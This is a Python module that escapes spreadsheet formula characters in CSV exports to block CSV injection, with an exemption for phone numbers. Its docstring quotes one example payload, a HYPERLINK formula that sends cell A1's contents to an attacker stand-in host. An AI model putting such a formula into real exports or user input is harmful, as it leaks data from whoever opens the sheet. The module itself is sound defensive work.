"""CSV files for spreadsheets, all written here so that no cell runs as a formula.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return) as a formula:
free text such as ``=HYPERLINK("https://evil.example/?"&A1;"Open")`` typed in a name, a note or a
search would send the sheet away or start a command when a coordinator opens the export (OWASP
"CSV injection"). Such a cell gets a leading apostrophe, which the spreadsheet shows as plain text.
A phone number (``+33 6 12 34 56 78``) keeps its plus sign: digits, spaces, dots, dashes and
brackets can call no function and name no cell.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PHONE = re.compile(r"^\+?[0-9 .()\-]+$")


def csv_cell(value) -> str:
    """The text of one cell, inert in a spreadsheet."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not _PHONE.match(text):
        return "'" + text
    return text


def csv_text(headers: Iterable, rows: Iterable[Iterable]) -> str:
    """A CSV table as French spreadsheets read it: semicolons, a byte-order mark for Excel's UTF-8."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow([csv_cell(h) for h in headers])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return "\ufeff" + buffer.getvalue()


def csv_bytes(headers: Iterable, rows: Iterable[Iterable]) -> bytes:
    return csv_text(headers, rows).encode("utf-8")
